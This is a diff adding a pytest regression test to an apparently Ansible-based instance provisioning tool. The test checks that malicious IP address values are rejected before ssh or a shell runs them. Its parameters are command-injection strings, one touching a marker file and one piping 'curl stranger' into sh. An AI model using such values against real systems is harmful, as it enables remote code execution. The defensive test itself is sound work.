@@ -143,6 +143,30 @@ def test_it_speaks_for_the_request_alone(node, tmp_path):
     assert "jackie-2 is running" not in output
 
 
+@pytest.mark.parametrize(
+    ("option", "ip"),
+    [
+        ("ProxyCommand sh -c 'exit 1' %h", "fe80::1%h$(touch${IFS}pwned)"),
+        ("ForwardAgent no", "fe80::1%h;curl${IFS}stranger|sh"),
+    ],
+)
+def test_an_address_of_its_runs_nothing(node, tmp_path, option, ip):
+    """Lost: the controller, by an address that ssh hands to a shell, or that a person pastes into one."""
+    modules, plays = node
+    given = dict(instance="jackie", name="board0", ip=ip, known_hosts="10.0.1.1 ssh-ed25519 AAAA", board=0)
+    (modules / "instance.py").rename(modules / "honest.py")
+    (modules / "instance.py").write_text(ENDED.format(json.dumps(dict(changed=True, instances=[given], lines=[]))))
+    ways = tmp_path / "ways"
+    options = json.dumps(dict(hetero_ssh_options=[option]))
+    rc, output = plays.play(
+        "provision_instance", "-e", options, instance="jackie", flavor=FLAVOR, hetero_ssh_folder=str(ways)
+    )
+    assert rc != 0
+    assert "what the node answers to instance cannot be (instances is" in " ".join(output.split()), output
+    assert "ssh root@" not in output
+    assert not ways.exists()
+
+
 def test_an_instance_without_instances_is_the_nodes_fault(node, tmp_path):
     """Lost: who is at fault, to an error of Ansible's own about an object of type dict."""
     modules, plays = node
